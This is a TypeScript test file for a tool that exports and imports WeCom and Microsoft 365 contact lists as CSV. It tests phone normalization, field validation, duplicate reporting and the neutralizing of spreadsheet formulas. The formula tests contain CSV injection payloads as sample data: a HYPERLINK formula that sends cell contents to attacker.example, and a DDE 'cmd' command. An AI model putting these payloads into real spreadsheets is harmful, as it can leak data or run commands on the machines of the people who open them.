import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { MailboxAccount } from '../../functions/mailbox/directory';
import { exportM365Csv, exportWecomCsv, importCsv, M365_COLUMNS, WECOM_COLUMNS } from '../../functions/sync/csv';
import type { WecomDepartment, WecomUser } from '../../functions/wecom/contacts';

const departments: WecomDepartment[] = [
  { id: 1, name: '示例公司', parentid: 0 },
  { id: 2, name: '技术部', parentid: 1 },
  { id: 3, name: '研发组', parentid: 2 },
  { id: 4, name: '市场部', parentid: 1 },
];
const KNOWN = new Set(['技术部', '技术部/研发组', '市场部']);

const users: WecomUser[] = [
  {
    userid: 'zhangsan',
    name: '张三',
    position: '工程师, 后端',
    department: [4, 3],
    main_department: 3,
    mobile: '138 0013 8000',
    telephone: '010-62345678',
    email: 'zhangsan@qq.com',
    biz_mail: 'zhangsan@example.com',
    address: '北京市海淀区\n中关村大街1号, 3层',
    enable: 1,
  },
  { userid: 'lisi', name: '李四', department: [1], mobile: '+86-139-0013-9000', biz_mail: 'lisi@example.com', enable: 0 },
  { userid: 'wangwu', name: '王五', department: [2] },
];

/** Cells of an exported CSV as a spreadsheet reads them. */
function cells(csv: string): string[][] {
  return parse(csv, { bom: true }) as string[][];
}

describe('exportWecomCsv', () => {
  const csv = exportWecomCsv(users, departments);

  it('is UTF-8 with BOM and CRLF row ends, in the template columns, Chinese intact', () => {
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.slice(1).split('\r\n')[0]).toBe(WECOM_COLUMNS.join(','));
    // Every LF outside a quoted cell is part of a CRLF: the only bare LF is inside zhangsan's address.
    const bareLf = csv.replace(/\r\n/g, '').match(/\n/g) ?? [];
    expect(bareLf).toHaveLength(1);
    expect(csv.endsWith('\r\n')).toBe(true);
    const decoded = Buffer.from(csv, 'utf8').toString('utf8');
    expect(decoded).toContain('张三');
    expect(decoded).toContain('技术部/研发组;市场部');
  });

  it('writes mobiles in international format, departments as full paths (main first), 禁用 0/1', () => {
    const [header, zhang, li, wang] = cells(csv);
    const col = (name: string) => header!.indexOf(name);
    expect(zhang![col('手机')]).toBe('+8613800138000');
    expect(zhang![col('座机')]).toBe('+861062345678');
    expect(zhang![col('部门')]).toBe('技术部/研发组;市场部');
    expect(zhang![col('地址')]).toBe('北京市海淀区\n中关村大街1号, 3层');
    expect(zhang![col('禁用')]).toBe('0');
    expect(li![col('手机')]).toBe('+8613900139000');
    expect(li![col('部门')]).toBe(''); // directly under the root: no department path
    expect(li![col('禁用')]).toBe('1');
    expect(wang![col('禁用')]).toBe('');
  });

  it('neutralizes formula cells with an apostrophe, but keeps E.164 phones as +…', () => {
    const evil: WecomUser[] = [
      {
        userid: 'evil',
        name: '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
        position: '@SUM(1)',
        address: '-1+2',
        email: ' =cmd|\' /C calc\'!A0',
        mobile: '=1+2',
        telephone: '+86 10 6234 5678',
        department: [2],
      },
    ];
    const [header, row] = cells(exportWecomCsv(evil, departments));
    const col = (name: string) => header!.indexOf(name);
    expect(row![col('姓名')]).toBe('\'=HYPERLINK("http://attacker.example/?x="&A1,"click")');
    expect(row![col('职务')]).toBe("'@SUM(1)");
    expect(row![col('地址')]).toBe("'-1+2");
    expect(row![col('个人邮箱')]).toBe("'=cmd|' /C calc'!A0");
    // An unparseable phone is exported as it is, neutralized.
    expect(row![col('手机')]).toBe("'=1+2");
    // A valid phone is data: '+' and digits only, no apostrophe.
    expect(row![col('座机')]).toBe('+861062345678');
    for (const c of row!) if (c && !/^\+\d+$/.test(c)) expect(c).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('keeps a telephone extension in a form the importer reads back', () => {
    const csv2 = exportWecomCsv([{ userid: 'ext', name: '分机', telephone: '010-62345678 转 123' }], departments);
    const [header, row] = cells(csv2);
    expect(row![header!.indexOf('座机')]).toBe('+861062345678 ext 123');
    const back = importCsv(csv2);
    expect(back.errors).toEqual([]);
    expect(back.rows[0]!.contact.telephone).toBe('+861062345678;ext=123');
  });
});

describe('importCsv (WeCom template)', () => {
  it('round trip: export → import gives the same people and fields', () => {
    const result = importCsv(exportWecomCsv(users, departments), 'wecom', KNOWN);
    expect(result.errors).toEqual([]);
    expect(result.rows).toEqual([
      {
        line: 2,
        userid: 'zhangsan',
        contact: {
          userid: 'zhangsan',
          name: '张三',
          position: '工程师, 后端',
          departments: ['技术部/研发组', '市场部'],
          mobile: '+8613800138000',
          telephone: '+861062345678',
          personalEmail: 'zhangsan@qq.com',
          email: 'zhangsan@example.com',
          address: '北京市海淀区\n中关村大街1号, 3层',
          enabled: true,
        },
      },
      {
        line: 3,
        userid: 'lisi',
        contact: { userid: 'lisi', name: '李四', mobile: '+8613900139000', email: 'lisi@example.com', enabled: false },
      },
      { line: 4, userid: 'wangwu', contact: { userid: 'wangwu', name: '王五', departments: ['技术部'] } },
    ]);
  });

  it("accepts '138 0013 8000' and '+86-138-0013-8000' as +8613800138000", () => {
    for (const raw of ['138 0013 8000', '+86-138-0013-8000', "'+8613800138000"]) {
      const r = importCsv(`姓名,帐号,手机\r\n张三,zhangsan,${raw}\r\n`);
      expect(r.errors).toEqual([]);
      expect(r.rows[0]!.contact.mobile).toBe('+8613800138000');
    }
  });

  it('refuses a mobile with a digit missing or too many, and a landline in the mobile column', () => {
    const r = importCsv('姓名,帐号,手机,座机\r\n甲,a,1380013800,010-6234567\r\n乙,b,138001380001,\r\n丙,c,010-62345678,010-62345678\r\n');
    expect(r.errors).toEqual([
      { line: 2, field: '手机', reason: 'mobile is not a valid phone number' },
      { line: 2, field: '座机', reason: 'telephone is not a valid phone number' },
      { line: 3, field: '手机', reason: 'mobile is not a valid phone number' },
      { line: 4, field: '手机', reason: 'mobile is not a mobile number' },
    ]);
    expect(r.rows[2]!.contact.telephone).toBe('+861062345678');
  });

  it('also accepts a file without BOM, with LF endings and the 账号 spelling', () => {
    const r = importCsv('姓名,账号,部门\n张三,zhangsan,技术部\n', 'wecom', KNOWN);
    expect(r.errors).toEqual([]);
    expect(r.rows).toEqual([{ line: 2, userid: 'zhangsan', contact: { userid: 'zhangsan', name: '张三', departments: ['技术部'] } }]);
  });

  it('rejects formula cells (and re-imported neutralized ones) with the row and column', () => {
    const text = [
      '姓名,帐号,职务,地址,手机',
      '"=HYPERLINK(""http://x"",""y"")",a1,@SUM(1),-1+2,13800138000',
      "'=1+2,a2,\tx,ok,=1+2",
      'ok,+a3,ok, =2,',
    ].join('\r\n');
    const r = importCsv(text);
    const got = r.errors.map((e) => `${e.line}:${e.field}`);
    expect(got).toEqual(['2:姓名', '2:职务', '2:地址', '3:姓名', '3:职务', '3:手机', '4:帐号', '4:地址']);
    expect(r.errors.find((e) => e.line === 3 && e.field === '姓名')!.reason).toMatch(/neutralized formula/);
    expect(r.errors.find((e) => e.line === 2 && e.field === '职务')!.reason).toMatch(/formula/);
    // The refused cells are left unknown; the valid rest of the row is kept.
    expect(r.rows[0]!.contact).toEqual({ userid: 'a1', mobile: '+8613800138000' });
  });

  it('the neutralized export of a formula does not import back silently', () => {
    const csv = exportWecomCsv([{ userid: 'evil', name: '=HYPERLINK("http://x","y")', position: '@SUM(1)' }], departments);
    const r = importCsv(csv);
    expect(r.errors.map((e) => e.field).sort()).toEqual(['姓名', '职务']);
  });

  it('reports duplicate userid (case-insensitive), mobile and email on the later row, naming the earlier line', () => {
    const text = [
      '姓名,帐号,手机,个人邮箱,企业邮箱',
      '张三,zhangsan,13800138000,zs@qq.com,zhangsan@example.com',
      '李四,lisi,13900139000,,lisi@example.com',
      '张三二,ZhangSan,+86 138-0013-8000,,',
      '王五,wangwu,,ZS@QQ.com,',
      '赵六,zhaoliu,,,lisi@example.com',
    ].join('\r\n');
    const r = importCsv(text);
    expect(r.errors).toEqual([
      { line: 4, field: '帐号', reason: 'duplicate userid: same as line 2' },
      { line: 4, field: '手机', reason: 'duplicate mobile: same as line 2' },
      { line: 5, field: '个人邮箱', reason: 'duplicate email: same as line 2' },
      { line: 6, field: '企业邮箱', reason: 'duplicate email: same as line 3' },
    ]);
    expect(r.rows).toHaveLength(5);
  });

  it('missing required columns → a clear error on line 1 and no rows', () => {
    const r = importCsv('姓名,手机\r\n张三,13800138000\r\n');
    expect(r.rows).toEqual([]);
    expect(r.errors).toEqual([
      { line: 1, field: '帐号', reason: 'required column 帐号 is missing from the header row (accepted: 帐号, 账号, 英文ID)' },
    ]);
    expect(importCsv('').errors[0]!.reason).toMatch(/no header row/);
  });

  it('required values, userid syntax, 禁用, gender and department paths are validated per row', () => {
    const text = [
      '姓名,帐号,部门,禁用,性别',
      ',a1,技术部,0,男',
      '张三,,技术部,0,女',
      '李四,li si,技术部,2,x',
      '王五,wangwu,技术部/不存在;市场部,1,',
      '赵六,zhaoliu,技术部//研发组,,',
    ].join('\r\n');
    const r = importCsv(text, 'wecom', KNOWN);
    expect(r.errors.map((e) => `${e.line}:${e.field}`)).toEqual(['2:姓名', '3:帐号', '4:帐号', '4:性别', '4:禁用', '5:部门', '6:部门']);
    expect(r.errors[0]!.reason).toBe('required value is empty');
    expect(r.errors[5]!.reason).toBe('department path 1 of this cell is not a known department');
    // A bad path makes the whole department list unknown (a partial list would move the person).
    expect(r.rows.find((x) => x.userid === 'wangwu')!.contact.departments).toBeUndefined();
    // Without a known set, paths are only checked for shape.
    expect(importCsv(text, 'wecom').errors.filter((e) => e.field === '部门').map((e) => e.line)).toEqual([6]);
  });

  it('handles quoted cells with commas, quotes and newlines; line numbers are spreadsheet rows', () => {
    const text = '姓名,帐号,地址,手机\r\n"张, 三",zs,"第一行\r\n第二行, ""引号""",\r\n李四,lisi,,12345\r\n';
    const r = importCsv(text);
    expect(r.rows[0]!.contact).toEqual({ userid: 'zs', name: '张, 三', address: '第一行\r\n第二行, "引号"' });
    // The multi-line cell is still one row: 李四 is row 3 although it is text line 4.
    expect(r.errors).toEqual([{ line: 3, field: '手机', reason: 'mobile is not a valid phone number' }]);
  });

  it('blank rows count as rows but are not reported; extra header columns become custom fields', () => {
    const r = importCsv('姓名,帐号,工号\r\n\r\n张三,zs,E001\r\n,,\r\n李四,lisi,@x\r\n');
    expect(r.rows.map((x) => x.line)).toEqual([3, 5]);
    expect(r.rows[0]!.contact.extattr).toEqual({ 工号: 'E001' });
    expect(r.errors).toEqual([{ line: 5, field: '工号', reason: expect.stringMatching(/formula/) }]);
  });

  it('malformed CSV is reported without quoting the file', () => {
    const r = importCsv('姓名,帐号,手机\r\n张三,zs,"13800138000\r\n');
    expect(r.rows).toEqual([]);
    expect(r.errors).toHaveLength(1);
    expect(r.errors[0]!.reason).toMatch(/quoted cell is never closed/);
    expect(r.errors[0]!.reason).not.toContain('13800138000');
    const r2 = importCsv('姓名,帐号,个人邮箱\r\n张三,zs,zs "x" @qq.com\r\n');
    expect(r2.errors[0]!.reason).not.toMatch(/qq\.com/);
  });

  it('no error reason contains a phone number or an email address from the file', () => {
    const values = ['1380013800', '+86 10 1234', 'zhangsan@@qq', 'no-at-sign.example.com', '13800138000', 'dup@qq.com', 'call me maybe'];
    const text = [
      '姓名,帐号,手机,座机,个人邮箱,企业邮箱',
      `张三,zs,${values[0]},"${values[1]}",${values[2]},${values[3]}`,
      `李四,ls,${values[4]},${values[6]},${values[5]},`,
      `王五,ww,${values[4]},,,${values[5]}`,
    ].join('\r\n');
    const r = importCsv(text);
    expect(r.errors.length).toBeGreaterThanOrEqual(6);
    for (const e of r.errors) {
      for (const v of values) expect(e.reason).not.toContain(v);
      expect(e.reason).not.toMatch(/\d{5,}|@/);
    }
  });
});

describe('Microsoft 365 template', () => {
  const accounts: MailboxAccount[] = [
    {
      id: 'g1',
      employeeId: 'zhangsan',
      enabled: true,
      displayName: '张三',
      email: 'zhangsan@example.com',
      mobile: '+8613800138000',
      telephone: '010 6234 5678',
      jobTitle: '工程师',
      department: '技术部/研发组',
    },
    { id: 'g2', employeeId: 'evil', enabled: true, displayName: '=1+2', email: 'evil@example.com', jobTitle: '-x' },
    { id: 'g3', employeeId: 'gone', enabled: false, deleted: true, displayName: '离职', email: 'gone@example.com' },
  ];

  it('exports the admin center columns, BOM + CRLF, E.164 phones, no WeCom link column, no deleted account', () => {
    const csv = exportM365Csv(accounts);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.slice(1).split('\r\n')[0]).toBe(M365_COLUMNS.join(','));
    const [header, zhang, evil, ...rest] = cells(csv);
    expect(rest).toEqual([]);
    const col = (name: string) => header!.indexOf(name);
    expect(zhang![col('User Name')]).toBe('zhangsan@example.com');
    expect(zhang![col('Display Name')]).toBe('张三');
    expect(zhang![col('Mobile Phone')]).toBe('+8613800138000');
    expect(zhang![col('Office Phone')]).toBe('+861062345678');
    expect(zhang![col('Department')]).toBe('技术部/研发组');
    expect(evil![col('Display Name')]).toBe("'=1+2");
    expect(evil![col('Job Title')]).toBe("'-x");
    expect(csv).not.toContain('zhangsan,'); // the employeeId link is not exported
  });

  it('round trip: export → import keeps the fields; rows carry no userid', () => {
    const r = importCsv(exportM365Csv(accounts.slice(0, 1)), 'm365', KNOWN);
    expect(r.errors).toEqual([]);
    expect(r.rows).toEqual([
      {
        line: 2,
        contact: {
          userid: '',
          name: '张三',
          email: 'zhangsan@example.com',
          mobile: '+8613800138000',
          telephone: '+861062345678',
          position: '工程师',
          departments: ['技术部/研发组'],
        },
      },
    ]);
  });

  it('requires User Name and Display Name, refuses headings outside the template, allows a shared alternate address', () => {
    expect(importCsv('User Name,Job Title\r\na@example.com,x\r\n', 'm365').errors).toEqual([
      { line: 1, field: 'Display Name', reason: 'required column Display Name is missing from the header row' },
    ]);
    const extra = importCsv('User Name,Display Name,Employee Id\r\na@example.com,A,x\r\n', 'm365');
    expect(extra.errors.map((e) => `${e.line}:${e.field}`)).toEqual(['1:Employee Id']);
    const text = [
      'User Name,Display Name,Alternate email address,Mobile Phone',
      'a@example.com,A,admin@example.org,138 0013 8000',
      'b@example.com,,admin@example.org,',
      'A@example.com,A2,,+86 138 0013 8000',
      'not-an-email,C,,',
    ].join('\r\n');
    const r = importCsv(text, 'm365');
    expect(r.errors).toEqual([
      { line: 3, field: 'Display Name', reason: 'required value is empty' },
      { line: 4, field: 'Mobile Phone', reason: 'duplicate mobile: same as line 2' },
      { line: 4, field: 'User Name', reason: 'duplicate email: same as line 2' },
      { line: 5, field: 'User Name', reason: 'email is not a valid email address' },
    ]);
  });

  it('refuses an unknown template name', () => {
    expect(() => importCsv('a', 'xls' as 'wecom')).toThrow(/unknown CSV template/);
  });
});
